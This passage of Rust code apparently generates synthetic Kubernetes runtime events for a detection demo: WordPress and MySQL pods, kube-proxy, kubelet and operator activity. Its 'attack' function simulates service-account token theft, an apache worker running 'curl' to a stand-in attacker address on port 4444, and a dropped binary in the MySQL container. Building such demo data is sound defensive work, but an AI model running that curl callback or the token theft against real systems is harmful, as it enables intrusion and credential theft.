    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/gd.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/imagick.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/intl.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/mysqli.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/opcache.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/zip.so",
    "/usr/lib/x86_64-linux-gnu/libMagickWand-6.Q16.so.6",
    "/usr/lib/x86_64-linux-gnu/libicuuc.so.72",
    "/usr/lib/x86_64-linux-gnu/libzip.so.4",
    "/etc/nsswitch.conf",
    "/etc/resolv.conf",
];

/// Loaded by every WordPress request (relative to /var/www/html).
const WP_BOOT: &[&str] = &[
    "wp-load.php",
    "wp-config.php",
    "wp-settings.php",
    "wp-includes/version.php",
    "wp-includes/load.php",
    "wp-includes/compat.php",
    "wp-includes/default-constants.php",
    "wp-includes/plugin.php",
    "wp-includes/class-wp-hook.php",
    "wp-includes/class-wp-error.php",
    "wp-includes/functions.php",
    "wp-includes/option.php",
    "wp-includes/class-wpdb.php",
    "wp-includes/cache.php",
    "wp-includes/class-wp-object-cache.php",
    "wp-includes/default-filters.php",
    "wp-includes/l10n.php",
    "wp-includes/formatting.php",
    "wp-includes/meta.php",
    "wp-includes/post.php",
    "wp-includes/class-wp-post.php",
    "wp-includes/user.php",
    "wp-includes/class-wp-user.php",
    "wp-includes/capabilities.php",
    "wp-includes/pluggable.php",
    "wp-includes/theme.php",
    "wp-includes/rewrite.php",
    "wp-includes/class-wp-rewrite.php",
    "wp-includes/kses.php",
    "wp-includes/blocks.php",
    "wp-includes/rest-api.php",
    "wp-includes/cron.php",
    "wp-content/plugins/akismet/akismet.php",
    "wp-content/plugins/akismet/class.akismet.php",
    "wp-content/themes/twentytwentyfour/functions.php",
];

/// Front-end page views.
const WP_FRONT: &[&str] = &[
    "index.php",
    "wp-blog-header.php",
    "wp-includes/class-wp.php",
    "wp-includes/class-wp-query.php",
    "wp-includes/query.php",
    "wp-includes/template-loader.php",
    "wp-includes/template.php",
    "wp-includes/post-template.php",
    "wp-includes/link-template.php",
    "wp-includes/general-template.php",
    "wp-includes/script-loader.php",
    "wp-includes/class-wp-block.php",
    "wp-includes/class-wp-block-parser.php",
    "wp-includes/global-styles-and-settings.php",
    "wp-includes/blocks/navigation.php",
    "wp-includes/blocks/post-title.php",
    "wp-includes/blocks/query.php",
    "wp-includes/blocks/template-part.php",
    "wp-content/themes/twentytwentyfour/theme.json",
    "wp-content/themes/twentytwentyfour/templates/home.html",
    "wp-content/themes/twentytwentyfour/templates/single.html",
    "wp-content/themes/twentytwentyfour/parts/header.html",
    "wp-content/themes/twentytwentyfour/parts/footer.html",
    "wp-content/themes/twentytwentyfour/patterns/hidden-comments.php",
];

const WP_COMMENTS: &[&str] = &[
    "wp-comments-post.php",
    "wp-includes/comment.php",
    "wp-includes/class-wp-comment.php",
    "wp-content/plugins/akismet/class.akismet-rest-api.php",
];

const WP_ADMIN: &[&str] = &[
    "wp-admin/admin.php",
    "wp-admin/includes/admin.php",
    "wp-admin/includes/post.php",
    "wp-admin/includes/template.php",
    "wp-admin/includes/screen.php",
    "wp-admin/includes/class-wp-screen.php",
    "wp-admin/includes/dashboard.php",
    "wp-admin/includes/update.php",
    "wp-admin/menu.php",
    "wp-admin/admin-header.php",
    "wp-admin/admin-footer.php",
    "wp-admin/index.php",
    "wp-admin/edit.php",
    "wp-admin/post.php",
    "wp-includes/session.php",
    "wp-includes/class-wp-session-tokens.php",
    "wp-includes/class-wp-user-meta-session-tokens.php",
];

const WP_LOGIN: &[&str] = &[
    "wp-login.php",
    "wp-includes/session.php",
    "wp-includes/class-wp-session-tokens.php",
    "wp-includes/class-wp-user-meta-session-tokens.php",
    "wp-includes/class-wp-password-hash.php",
];

const WP_AJAX: &[&str] = &[
    "wp-admin/admin-ajax.php",
    "wp-admin/includes/ajax-actions.php",
];

const WP_REST: &[&str] = &[
    "wp-includes/rest-api/class-wp-rest-server.php",
    "wp-includes/rest-api/class-wp-rest-request.php",
    "wp-includes/rest-api/class-wp-rest-response.php",
    "wp-includes/rest-api/endpoints/class-wp-rest-posts-controller.php",
    "wp-includes/rest-api/endpoints/class-wp-rest-controller.php",
];

const WP_CRON: &[&str] = &[
    "wp-cron.php",
    "wp-includes/class-wp-http.php",
    "wp-includes/http.php",
];

const WP_XMLRPC: &[&str] = &[
    "xmlrpc.php",
    "wp-includes/class-IXR.php",
    "wp-includes/class-wp-xmlrpc-server.php",
];

const MEDIA: &[&str] = &[
    "wp-admin/async-upload.php",
    "wp-admin/includes/media.php",
    "wp-admin/includes/image.php",
    "wp-includes/media.php",
    "wp-includes/class-wp-image-editor.php",
    "wp-includes/class-wp-image-editor-imagick.php",
];

/// Ingress controller pods in front of WordPress.
const INGRESS_PEERS: &[&str] = &["10.244.1.9", "10.244.2.12"];

struct PhpRun {
    from: i64,
    to: i64,
    p: Proc,
}

struct Wordpress {
    place: Event,
    ip: &'static str,
    shim: Proc,
    workers: Vec<Proc>,
    /// Per FastCGI slot, the successive php processes.
    php: Vec<Vec<PhpRun>>,
    sessions: Vec<String>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Req {
    Front,
    Comment,
    Admin,
    Login,
    Ajax,
    Rest,
    Cron,
    Xmlrpc,
}

fn wordpress(g: &mut Gen, n: &Node, pod: &str, ip: &'static str, t0: i64) -> Wordpress {
    let spec = PodSpec {
        namespace: NAMESPACE,
        pod,
        container: "wordpress",
        image: "wordpress:6.4-apache",
        kind: "Deployment",
        workload: "wordpress",
        labels: &[
            "app=wordpress",
            "tier=frontend",
            "pod-template-hash=7c9f6d8b5d",
        ],
        node: n.name,
    };
    let place = pod_where(&spec);
    let shim = start_container(g, n, &place, t0);
    let t = t0 + 250 * MS;
    let ep = shim.child_in(
        g,
        &place,
        t,
        "/usr/local/bin/docker-entrypoint.sh",
        "docker-entrypoint.sh apache2-foreground",
        0,
    );
    ep.loads(g, t, BASH_LIBS);
    let id_u = ep.spawn(g, t + 20 * MS, "/usr/bin/id", "id -u", 0);
    id_u.loads(g, t + 20 * MS, COREUTILS_LIBS);
    id_u.read(g, t + 22 * MS, "/etc/passwd");
    let id_g = ep.spawn(g, t + 300 * MS, "/usr/bin/id", "id -g", 0);
    id_g.loads(g, t + 300 * MS, COREUTILS_LIBS);
    id_g.read(g, t + 302 * MS, "/etc/group");
    let find = ep.spawn(
        g,
        t + 600 * MS,
        "/usr/bin/find",
        "find /var/www/html -mindepth 1 -maxdepth 1 -not -name wp-content",
        0,
    );
    find.loads(g, t + 600 * MS, COREUTILS_LIBS);
    find.read(g, t + 603 * MS, WP_ROOT);
    let ls = ep.spawn(
        g,
        t + 900 * MS,
        "/bin/ls",
        "ls -A /var/www/html/wp-content",
        0,
    );
    ls.loads(g, t + 900 * MS, COREUTILS_LIBS);
    ls.read(g, t + 903 * MS, "/var/www/html/wp-content");
    let sh = ep.spawn(
        g,
        t + 1300 * MS,
        "/bin/sh",
        "sh -c sed -i 's/^ServerTokens OS$/ServerTokens Prod/' /etc/apache2/conf-available/security.conf",
        0,
    );
    sh.loads(g, t + 1300 * MS, &["/usr/lib/x86_64-linux-gnu/libc.so.6"]);
    let sed = sh.spawn(
        g,
        t + 1310 * MS,
        "/bin/sed",
        "sed -i s/^ServerTokens OS$/ServerTokens Prod/ /etc/apache2/conf-available/security.conf",
        0,
    );
    let ts = sed.loads(g, t + 1310 * MS, COREUTILS_LIBS);
    sed.read(g, ts, "/etc/apache2/conf-available/security.conf");
    let tmp = format!(
        "/etc/apache2/conf-available/sed{}",
        g.rng.chars(
            6,
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        )
    );
    sed.file(g, ts + MS, &tmp, "create");
    sed.file(
        g,
        ts + 2 * MS,
        "/etc/apache2/conf-available/security.conf",
        "rename",
    );
    let chown = ep.spawn(
        g,
        t + 1700 * MS,
        "/bin/chown",
        "chown www-data:www-data /var/www/html/wp-content/uploads",
        0,
    );
    chown.loads(g, t + 1700 * MS, &["/usr/lib/x86_64-linux-gnu/libc.so.6"]);
    chown.read(g, t + 1702 * MS, "/etc/passwd");
    chown.read(g, t + 1702 * MS + 200 * US, "/etc/group");

    // exec apache2-foreground: a bash script that ends in `exec apache2 -DFOREGROUND`.
    let t = t + 2100 * MS;
    let fg = ep.exec_as(
        g,
        t,
        "/usr/local/bin/apache2-foreground",
        "apache2-foreground",
        0,
    );
    fg.loads(g, t, BASH_LIBS);
    fg.read(g, t + 2 * MS, "/etc/apache2/envvars");
    let mkdir = fg.spawn(
        g,
        t + 10 * MS,
        "/bin/mkdir",
        "mkdir -p /var/run/apache2 /var/lock/apache2",
        0,
    );
    mkdir.loads(g, t + 10 * MS, COREUTILS_LIBS);
    let rm = fg.spawn(
        g,
        t + 30 * MS,
        "/bin/rm",
        "rm -f /var/run/apache2/apache2.pid",
        0,
    );
    rm.loads(g, t + 30 * MS, &["/usr/lib/x86_64-linux-gnu/libc.so.6"]);
    rm.file_result(
        g,
        t + 32 * MS,
        "/var/run/apache2/apache2.pid",
        "delete",
        "No such file or directory",
    );

    let t = t + 60 * MS;
    let master = fg.exec_as(g, t, "/usr/sbin/apache2", "apache2 -DFOREGROUND", 0);
    let tl = master.loads(g, t, APACHE_LIBS);
    let tc = master.reads(g, tl, APACHE_CONF);
    master.read(g, tc, "/etc/passwd");
    master.read(g, tc + 200 * US, "/etc/group");
    master.file(g, tc + MS, "/var/log/apache2/error.log", "write");
    master.file(g, tc + 2 * MS, "/var/log/apache2/access.log", "write");
    master.file(
        g,
        tc + 3 * MS,
        "/var/log/apache2/other_vhosts_access.log",
        "write",
    );
    master.listen(g, tc + 5 * MS, "tcp", "0.0.0.0", Some(80));
    master.file(g, tc + 6 * MS, "/var/run/apache2/apache2.pid", "create");
    let workers: Vec<Proc> = (0..5)
        .map(|i| master.fork(g, tc + (10 + i) * MS, 33))
        .collect();

    // One FastCGI slot of php workers, recycled every two hours or so.
    let mut php = Vec::new();
    for slot in 0..1 {
        let mut runs = Vec::new();
        let mut from = tc + (50 + 30 * slot) * MS;
        while from < END_NS {
            let life = (g.rng.range(100, 200) * 60 + g.rng.range(0, 59)) * NS;
            let to = (from + life).min(END_NS);
            let p = master.spawn(
                g,
                from,
                "/usr/local/bin/php",
                "php-fcgi -c /usr/local/etc/php",
                33,
            );
            let tl = p.loads(g, from, PHP_LIBS);
            p.reads(g, tl, PHP_INIT);
            runs.push(PhpRun { from, to, p });
            from = to + g.rng.range(5, 900) * MS;
        }
        php.push(runs);
    }
    Wordpress {
        place,
        ip,
        shim,
        workers,
        php,
        sessions: Vec::new(),
    }
}

impl Wordpress {
    fn php_at(&self, g: &mut Gen, ts: i64) -> Option<Proc> {
        let first = g.rng.below(self.php.len() as u64) as usize;
        (0..self.php.len()).find_map(|i| {
            self.php[(first + i) % self.php.len()]
                .iter()
                .find(|r| r.from < ts && ts < r.to)
                .map(|r| r.p.clone())
        })
    }

    fn request(&mut self, g: &mut Gen, my: &Mysql, ts: i64, upload: Option<&str>) {
        let Some(php) = self.php_at(g, ts) else {
            return; // both php workers are restarting: apache answers 503 without php.
        };
        let worker = g.rng.pick(&self.workers).clone();
        let peer = *g.rng.pick(INGRESS_PEERS);
        let kind = if upload.is_some() {
            Req::Admin
        } else {
            match g.rng.below(1000) {
                0..=689 => Req::Front,
                690..=719 => Req::Comment,
                720..=789 => Req::Admin,
                790..=809 => Req::Login,
                810..=889 => Req::Ajax,
                890..=949 => Req::Rest,
                950..=984 => Req::Cron,
                _ => Req::Xmlrpc,
            }
        };
        worker.accept(g, ts, "tcp", self.ip, Some(80), Some(peer));
        worker.read(g, ts + 300 * US, "/var/www/html/.htaccess");
        let mut t = ts + MS;
        let read_wp = |g: &mut Gen, t: &mut i64, files: &[&str]| {
            for f in files {
                php.read(g, *t, &format!("{WP_ROOT}/{f}"));
                *t += 150 * US;
            }
        };
        let entry: &[&str] = match kind {
            Req::Front | Req::Comment => &["index.php", "wp-blog-header.php"],
            Req::Admin => &["wp-admin/admin.php"],
            Req::Login => &["wp-login.php"],
            Req::Ajax => &["wp-admin/admin-ajax.php"],
            Req::Rest => &["index.php"],
            Req::Cron => &["wp-cron.php"],
            Req::Xmlrpc => &["xmlrpc.php"],
        };
        read_wp(g, &mut t, entry);
        read_wp(g, &mut t, WP_BOOT);
        // Database connection: name lookup (hosts file, then cluster DNS), then MySQL.
        php.read(g, t, "/etc/hosts");
        php.connect(
            g,
            t + 200 * US,
            "udp",
            Some(self.ip),
            DNS_ADDR,
            Some(53),
            Some(DNS_NAME),
        );
        php.connect(
            g,
            t + 900 * US,
            "tcp",
            Some(self.ip),
            MYSQL_SVC_ADDR,
            Some(3306),
            Some(MYSQL_SVC_NAME),
        );
        let writes =
            matches!(kind, Req::Admin | Req::Login | Req::Comment | Req::Cron) || upload.is_some();
        my.serve(g, t + 1200 * US, self.ip, writes);
        t += 3 * MS;
        match kind {
            Req::Front => {
                let k = g.rng.range(8, WP_FRONT.len() as i64) as usize;
                read_wp(g, &mut t, &WP_FRONT[..k]);
            }
            Req::Comment => {
                read_wp(g, &mut t, WP_COMMENTS);
                read_wp(g, &mut t, &WP_FRONT[..10]);
            }
            Req::Admin => {
                let k = g.rng.range(6, WP_ADMIN.len() as i64) as usize;
                read_wp(g, &mut t, &WP_ADMIN[..k]);
            }
            Req::Login => read_wp(g, &mut t, WP_LOGIN),
            Req::Ajax => read_wp(g, &mut t, WP_AJAX),
            Req::Rest => read_wp(g, &mut t, WP_REST),
            Req::Cron => {
                read_wp(g, &mut t, WP_CRON);
                // wp-cron checks for updates over HTTPS: DNS then api.wordpress.org.
                if g.rng.chance(0.2) {
                    php.read(g, t, "/etc/hosts");
                    php.connect(
                        g,
                        t + MS,
                        "udp",
                        Some(self.ip),
                        DNS_ADDR,
                        Some(53),
                        Some(DNS_NAME),
                    );
                    php.connect(
                        g,
                        t + 3 * MS,
                        "tcp",
                        Some(self.ip),
                        "198.143.164.251",
                        Some(443),
                        Some("api.wordpress.org"),
                    );
                    php.read(g, t + 40 * MS, "/etc/ssl/certs/ca-certificates.crt");
                    t += 60 * MS;
                }
            }
            Req::Xmlrpc => read_wp(g, &mut t, WP_XMLRPC),
        }
        // Sessions: a login creates one, admin pages read and update it.
        match kind {
            Req::Login => {
                let id = g.rng.hex(32);
                php.file(g, t, &format!("/tmp/sess_{id}"), "create");
                self.sessions.push(id);
            }
            Req::Admin if !self.sessions.is_empty() => {
                let i = self.sessions.len()
                    - 1
                    - g.rng.below(self.sessions.len().min(4) as u64) as usize;
                let path = format!("/tmp/sess_{}", self.sessions[i]);
                php.read(g, t, &path);
                php.file(g, t + 5 * MS, &path, "write");
            }
            _ => {}
        }
        // Session garbage collection (session.gc_probability) and a debug log the image owns.
        if self.sessions.len() > 6 && g.rng.chance(0.01) {
            let old = self.sessions.remove(0);
            php.file(g, t + 6 * MS, &format!("/tmp/sess_{old}"), "delete");
        }
        if kind == Req::Admin && g.rng.chance(0.05) {
            php.file_result(
                g,
                t + 7 * MS,
                "/var/www/html/wp-content/debug.log",
                "write",
                "Permission denied",
            );
        }
        if let Some(name) = upload {
            read_wp(g, &mut t, MEDIA);
            let tmp = format!(
                "/tmp/php{}",
                g.rng.chars(
                    6,
                    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
                )
            );
            php.file(g, t, &tmp, "create");
            php.read(g, t + 80 * MS, &tmp);
            let dir = "/var/www/html/wp-content/uploads/2026/11";
            php.file(g, t + 90 * MS, &format!("{dir}/{name}.jpg"), "create");
            php.file(g, t + 91 * MS, &tmp, "delete");
            php.read(g, t + 95 * MS, &format!("{dir}/{name}.jpg"));
            for (i, size) in ["150x150", "300x200", "768x512", "1024x683"]
                .iter()
                .enumerate()
            {
                php.file(
                    g,
                    t + (200 + 90 * i as i64) * MS,
                    &format!("{dir}/{name}-{size}.jpg"),
                    "create",
                );
            }
        }
    }

    /// Traffic for the whole demo: random arrivals whose rate follows the morning.
    fn traffic(&mut self, g: &mut Gen, my: &Mysql, from: i64, uploads: &[(i64, &str)]) {
        // Mean milliseconds between requests, per hour from 08:00. Gaps are drawn from
        // integers only (no libm), so the data is bit-identical on every platform.
        const GAP_MS: [i64; 6] = [20_000, 14_000, 10_000, 9_000, 10_000, 12_000];
        let mut t = from;
        let mut pending = uploads.iter().peekable();
        loop {
            let hour = ((t - START_NS) / HOUR).clamp(0, 5) as usize;
            let mean = GAP_MS[hour];
            // Two uniform draws: mostly near the mean, sometimes bursts or lulls.
            t += (g.rng.range(0, mean) + g.rng.range(0, mean)) * MS + MS;
            if t >= END_NS - NS {
                break;
            }
            while let Some((ut, name)) = pending.peek() {
                if *ut <= t {
                    self.request(g, my, *ut, Some(name));
                    pending.next();
                } else {
                    break;
                }
            }
            self.request(g, my, t, None);
        }
    }

    /// The kubelet's TCP readiness probe on port 80, every 10 s.
    fn probes(&self, g: &mut Gen, n: &Node, from: i64) {
        for t in every(from, 10 * NS) {
            let t = t + g.rng.range(0, 30) * MS;
            n.kubelet
                .connect(g, t, "tcp", Some(n.gw), self.ip, Some(80), None);
            let w = g.rng.pick(&self.workers).clone();
            w.accept(g, t + 300 * US, "tcp", self.ip, Some(80), Some(n.gw));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// kube-proxy and the hosts
// ---------------------------------------------------------------------------------------------

fn kube_proxy(g: &mut Gen, n: &Node, pod: &str, pids: (i32, i32), offset: i64) {
    let spec = PodSpec {
        namespace: "kube-system",
        pod,
        container: "kube-proxy",
        image: "registry.k8s.io/kube-proxy:v1.30.6",
        kind: "DaemonSet",
        workload: "kube-proxy",
        labels: &[
            "controller-revision-hash=6d4b7c9f8",
            "k8s-app=kube-proxy",
            "pod-template-generation=1",
        ],
        node: n.name,
    };
    let place = pod_where(&spec);
    let kp = Proc::new(
        &place,
        pids.0,
        pids.1,
        0,
        "/usr/local/bin/kube-proxy",
        SHIM,
        &format!(
            "/usr/local/bin/kube-proxy --config=/var/lib/kube-proxy/config.conf --hostname-override={}",
            n.name
        ),
    );
    // client-go re-reads the projected token every minute.
    for t in every(START_NS + offset + 17 * NS, 60 * NS) {
        kp.read(g, t, SA_TOKEN);
    }
    // Watches are re-established now and then.
    for t in every(START_NS + offset + 600 * NS, 1500 * NS) {
        let t = t + g.rng.range(0, 300) * NS;
        if t < END_NS {
            kp.connect(
                g,
                t,
                "tcp",
                Some(n.ip),
                API_ADDR,
                Some(6443),
                Some(API_NAME),
            );
        }
    }
    let lock = "/run/xtables.lock";
    let iptables = |g: &mut Gen, t: i64, exe: &str, args: &str| {
        let p = kp.spawn(g, t, exe, args, 0);
        p.file(g, t + 2 * MS, lock, "write");
    };
    // The canary check every 5 minutes.
    for t in every(START_NS + offset + 41 * NS, 300 * NS) {
        iptables(
            g,
            t,
            "/usr/sbin/iptables",
            "iptables -w 5 -W 100000 -S KUBE-PROXY-CANARY -t mangle",
        );
    }
    // Full syncs: when the WordPress and MySQL endpoints change at start-up, then hourly.
    let syncs: Vec<i64> = [START_NS + 4 * NS, START_NS + 36 * NS, START_NS + 52 * NS]
        .into_iter()
        .chain(every(START_NS + offset + 1800 * NS, 3600 * NS))
        .map(|t| t + offset / 7)
        .collect();
    for t in syncs {
        iptables(g, t, "/usr/sbin/iptables-save", "iptables-save -t filter");
        iptables(
            g,
            t + 40 * MS,
            "/usr/sbin/iptables-save",
            "iptables-save -t nat",
        );
        iptables(
            g,
            t + 90 * MS,
            "/usr/sbin/iptables-restore",
            "iptables-restore -w 5 -W 100000 --noflush --counters",
        );
    }
}

fn host(g: &mut Gen, n: &Node, pod_uids: &[String], offset: i64) {
    let k = &n.kubelet;
    // cAdvisor housekeeping and the node status loop.
    for t in every(START_NS + offset + 3 * NS, 10 * NS) {
        k.read(g, t, "/sys/fs/cgroup/kubepods.slice/memory.stat");
        k.read(g, t + 300 * US, "/sys/fs/cgroup/kubepods.slice/cpu.stat");
        k.read(g, t + 600 * US, "/proc/diskstats");
    }
    for t in every(START_NS + offset + 8 * NS, 60 * NS) {
        k.read(g, t, "/var/lib/kubelet/cpu_manager_state");
        k.read(g, t + MS, "/var/lib/kubelet/memory_manager_state");
    }
    for t in every(START_NS + offset + 30 * NS, 600 * NS) {
        k.read(g, t, "/var/lib/kubelet/pki/kubelet-client-current.pem");
        k.read(g, t + MS, "/etc/kubernetes/kubelet.conf");
        k.file(
            g,
            t + 3 * MS,
            "/var/lib/kubelet/device-plugins/kubelet_internal_checkpoint",
            "write",
        );
    }
    // Lease renewals and status updates go over a long-lived connection; reconnects are rare.
    for t in every(START_NS + offset + 97 * NS, 1200 * NS) {
        let t = t + g.rng.range(0, 600) * NS;
        if t < END_NS {
            k.connect(
                g,
                t,
                "tcp",
                Some(n.ip),
                API_ADDR,
                Some(6443),
                Some(API_NAME),
            );
        }
    }
    // The API server proxies logs, metrics and exec to the kubelet.
    for t in every(START_NS + offset + 45 * NS, 120 * NS) {
        let t = t + g.rng.range(0, 60) * NS;
        if t < END_NS {
            k.accept(g, t, "tcp", n.ip, Some(10250), Some(API_ADDR));
        }
    }
    // Projected service-account tokens are refreshed through the atomic writer's timestamped
    // directories.
    for (i, uid) in pod_uids.iter().enumerate() {
        let vol = format!(
            "/var/lib/kubelet/pods/{uid}/volumes/kubernetes.io~projected/kube-api-access-{}",
            Rng::from_name(uid).chars(5, "bcdfghjklmnpqrstvwxz2456789")
        );
        for t in every(START_NS + offset + (900 + 311 * i as i64) * NS, 2880 * NS) {
            let secs = (t - START_NS) / NS;
            let dir = format!(
                "{vol}/..2026_11_20_{:02}_{:02}_{:02}.{}",
                8 + secs / 3600,
                secs / 60 % 60,
                secs % 60,
                g.rng.range(100_000_000, 999_999_999)
            );
            k.file(g, t, &format!("{dir}/token"), "create");
            k.file(g, t + MS, &format!("{dir}/ca.crt"), "create");
            k.file(g, t + 2 * MS, &format!("{dir}/namespace"), "create");
        }
    }
    // containerd's own housekeeping.
    for t in every(START_NS + offset + 20 * NS, 300 * NS) {
        n.containerd.file(
            g,
            t,
            "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db",
            "write",
        );
        n.containerd.read(
            g,
            t + 2 * MS,
            "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/metadata.db",
        );
    }
}

/// An operator logs in over SSH and looks at containers with crictl.
fn ssh_session(g: &mut Gen, n: &Node, t0: i64, commands: &[&str]) {
    n.sshd.accept(g, t0, "tcp", n.ip, Some(22), Some(BASTION));
    let child = n
        .sshd
        .spawn(g, t0 + 2 * MS, "/usr/sbin/sshd", "/usr/sbin/sshd -D -R", 0);
    let tl = child.loads(
        g,
        t0 + 2 * MS,
        &[
            "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
            "/usr/lib/x86_64-linux-gnu/libz.so.1",
            "/usr/lib/x86_64-linux-gnu/libc.so.6",
        ],
    );
    let tc = child.reads(
        g,
        tl,
        &[
            "/etc/ssh/sshd_config",
            "/etc/ssh/ssh_host_ed25519_key",
            "/etc/ssh/ssh_host_rsa_key",
            "/etc/passwd",
            "/etc/shadow",
            "/home/ops/.ssh/authorized_keys",
        ],
    );
    child.file(g, tc + 80 * MS, "/var/log/wtmp", "write");
    child.file(g, tc + 81 * MS, "/var/log/lastlog", "write");
    let user = child.fork(g, tc + 90 * MS, 1000);
    let t = tc + 120 * MS;
    let bash = user.spawn(g, t, "/bin/bash", "-bash", 1000);
    let tb = bash.loads(g, t, BASH_LIBS);
    bash.reads(
        g,
        tb,
        &[
            "/etc/bash.bashrc",
            "/home/ops/.bashrc",
            "/home/ops/.bash_history",
        ],
    );
    let mut t = t + 4 * NS;
    for cmd in commands {
        t += g.rng.range(3, 40) * NS;
        let sudo = bash.spawn(g, t, "/usr/bin/sudo", &format!("sudo {cmd}"), 0);
        let ts = sudo.loads(
            g,
            t,
            &[
                "/usr/lib/x86_64-linux-gnu/libaudit.so.1",
                "/usr/lib/x86_64-linux-gnu/libc.so.6",
            ],
        );
        let ts = sudo.reads(
            g,
            ts,
            &["/etc/sudoers", "/etc/sudoers.d/90-ops", "/etc/passwd"],
        );
        sudo.file(g, ts + MS, "/var/log/auth.log", "write");
        let crictl = sudo.spawn(g, ts + 5 * MS, "/usr/bin/crictl", cmd, 0);
        let tc = ts + 6 * MS;
        if n.name == "node-a" {
            crictl.read(g, tc, "/etc/crictl.yaml");
        } else {
            crictl.file_result(
                g,
                tc,
                "/etc/crictl.yaml",
                "read",
                "No such file or directory",
            );
        }
        crictl.connect(g, tc + MS, "unix", None, CONTAINERD_SOCK, None, None);
        n.containerd
            .accept(g, tc + MS + 100 * US, "unix", CONTAINERD_SOCK, None, None);
        if cmd.starts_with("crictl logs") {
            crictl.read(
                g,
                tc + 3 * MS,
                "/var/log/pods/wordpress-mysql_mysql-6f4d9b8c7-2hjtn_mysql/mysql/0.log",
            );
        }
    }
    bash.file(g, t + 9 * NS, "/home/ops/.bash_history", "write");
}

/// `kubectl exec -it wordpress-… -- bash`: `ls`, `cat /etc/os-release`, exit.
fn exec_session(g: &mut Gen, n: &Node, wp: &Wordpress, t0: i64) {
    n.kubelet
        .accept(g, t0, "tcp", n.ip, Some(10250), Some(API_ADDR));
    n.kubelet
        .connect(g, t0 + 2 * MS, "unix", None, CONTAINERD_SOCK, None, None);
    n.containerd.accept(
        g,
        t0 + 2 * MS + 100 * US,
        "unix",
        CONTAINERD_SOCK,
        None,
        None,
    );
    let t = t0 + 40 * MS;
    let bash = wp.shim.child_in(g, &wp.place, t, "/bin/bash", "bash", 0);
    let tb = bash.loads(g, t, BASH_LIBS);
    bash.reads(g, tb, &["/etc/bash.bashrc", "/root/.bashrc", "/etc/passwd"]);
    let t = t + 6 * NS + 200 * MS;
    let ls = bash.spawn(g, t, "/bin/ls", "ls -la /var/www/html", 0);
    let tl = ls.loads(g, t, COREUTILS_LIBS);
    ls.reads(
        g,
        tl,
        &["/etc/nsswitch.conf", "/etc/passwd", "/etc/group", WP_ROOT],
    );
    let t = t + 9 * NS + 700 * MS;
    let cat = bash.spawn(g, t, "/bin/cat", "cat /etc/os-release", 0);
    let tl = cat.loads(g, t, &["/usr/lib/x86_64-linux-gnu/libc.so.6"]);
    cat.read(g, tl, "/etc/os-release");
    bash.file(g, t + 14 * NS, "/root/.bash_history", "write");
}

// ---------------------------------------------------------------------------------------------
// The attack
// ---------------------------------------------------------------------------------------------

fn attack(g: &mut Gen, n: &Node, wp: &Wordpress, my: &Mysql) {
    // (b) The vulnerable plugin is made to read the service-account token.
    let t = at(12, 41, 9, 337);
    if let Some(php) = wp.php_at(g, t) {
        php.read(g, t, SA_TOKEN);
    }
    // (a) Remote code execution through an apache worker: a shell running curl, and
    // (c) curl's connection to the attacker's server.
    let t = at(13, 7, 52, 118);
    let worker = &wp.workers[3];
    let sh = worker.spawn(
        g,
        t,
        "/bin/sh",
        "sh -c curl -s -m 5 http://203.0.113.66:4444/b",
        33,
    );
    let curl = sh.spawn(
        g,
        t + 4 * MS,
        "/usr/bin/curl",
        "curl -s -m 5 http://203.0.113.66:4444/b",
        33,
    );
    curl.connect(
        g,
        at(13, 7, 53, 2),
        "tcp",
        Some(wp.ip),
        C2_ADDR,
        Some(C2_PORT),
        None,
    );
    // (d) With the stolen token, a shell in the MySQL container drops a binary.
    let t = at(13, 22, 15, 640);
    n.kubelet
        .accept(g, t - 60 * MS, "tcp", n.ip, Some(10250), Some(API_ADDR));
    n.kubelet
        .connect(g, t - 58 * MS, "unix", None, CONTAINERD_SOCK, None, None);
    n.containerd.accept(
        g,
        t - 58 * MS + 100 * US,
        "unix",
        CONTAINERD_SOCK,
        None,
        None,
    );
    let place = my.mysqld.t.clone();
    let sh = my.shim.child_in(g, &place, t, "/bin/sh", "/bin/sh", 0);
    sh.file(g, t + 11 * NS + 215 * MS, DROPPED_BINARY, "create");
}

/// The demo data set: a few thousand de-duplicated rows, sorted, identical on every call.
pub fn events() -> Vec<Event> {
    let mut g = Gen::new();
    let a = node("node-a", "10.0.0.11", "10.244.1.1", [842, 1187, 1034]);
    let b = node("node-b", "10.0.0.12", "10.244.2.1", [851, 1203, 1029]);

    let my = mysql(&mut g, &a, at(8, 0, 1, 120));
    let mut wp_a = wordpress(
        &mut g,
        &a,
        "wordpress-7c9f6d8b5d-4xk2p",
        "10.244.1.23",
        at(8, 0, 2, 410),
    );
    let mut wp_b = wordpress(
        &mut g,
        &b,
        "wordpress-7c9f6d8b5d-m8q7z",
        "10.244.2.31",
        at(8, 0, 2, 980),
    );
    my.background(&mut g, &a, at(8, 0, 1, 120));
    wp_a.probes(&mut g, &a, at(8, 0, 12, 500));
    wp_b.probes(&mut g, &b, at(8, 0, 13, 200));
    wp_a.traffic(
        &mut g,
        &my,
        at(8, 0, 20, 0),
        &[
            (at(9, 14, 22, 0), "team-offsite"),
            (at(13, 20, 41, 0), "q4-roadmap"),
        ],
    );
    wp_b.traffic(
        &mut g,
        &my,
        at(8, 0, 21, 0),
        &[(at(10, 52, 7, 0), "new-office")],
    );

    kube_proxy(&mut g, &a, "kube-proxy-7xq9d", (2731, 2650), 0);
    kube_proxy(
        &mut g,
        &b,
        "kube-proxy-kzb5w",
        (2688, 2612),
        2 * NS + 500 * MS,
    );
    let uids = |pods: &[&Event]| -> Vec<String> {
        pods.iter().filter_map(|p| p.pod_uid.clone()).collect()
    };
    let kp_uid = |pod: &str| uuid_for(&format!("kube-system/{pod}"));
    let mut a_uids = uids(&[&my.mysqld.t, &wp_a.place]);
    a_uids.push(kp_uid("kube-proxy-7xq9d"));
